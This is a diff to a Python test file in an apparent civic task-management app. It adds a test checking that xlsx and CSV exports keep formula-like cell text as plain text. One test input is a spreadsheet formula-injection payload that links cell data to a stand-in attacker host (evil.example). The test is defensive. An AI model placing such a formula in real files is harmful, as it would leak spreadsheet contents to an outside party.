@@ -14,7 +14,7 @@ from openpyxl import load_workbook
 from gridgov.campaigns.models import AssignmentSlip
 from gridgov.tasks.models import Task
 from gridgov.tasks.tests.factories import TaskStreet, make_task
-from gridgov.web.exports import table_xlsx
+from gridgov.web.exports import table_csv, table_xlsx
 from gridgov.web.tests.test_manage_campaigns import issue
 
 #: Every C0 control, DEL and some ordinary text.
@@ -59,3 +59,18 @@ def test_the_campaign_export_answers_with_a_stored_control_character(
     response = login("zhou").get(f"/manage/campaigns/{campaign.pk}/export.xlsx")
     assert response.status_code == 200
     assert rows_of(response.content)[1][3] == "乱堆放"
+
+
+def test_a_text_that_looks_like_a_formula_stays_text() -> None:
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+    body = table_xlsx(sheet_title="T", header=["h"], rows=[[attack], ["+1"], [-5]])
+    sheet = load_workbook(io.BytesIO(body)).active
+    assert sheet is not None
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert [c.data_type for c in cells] == ["s", "s", "n"]
+    assert [c.value for c in cells] == [attack, "+1", -5]
+
+    text = table_csv(header=["h"], rows=[[attack], ["@SUM(1)"], ["-3幢"], [-5], ["井盖"]])
+    lines = text.decode("utf-8-sig").splitlines()
+    assert lines[1].startswith("\"'=HYPERLINK(")
+    assert lines[2:] == ["'@SUM(1)", "'-3幢", "-5", "井盖"]
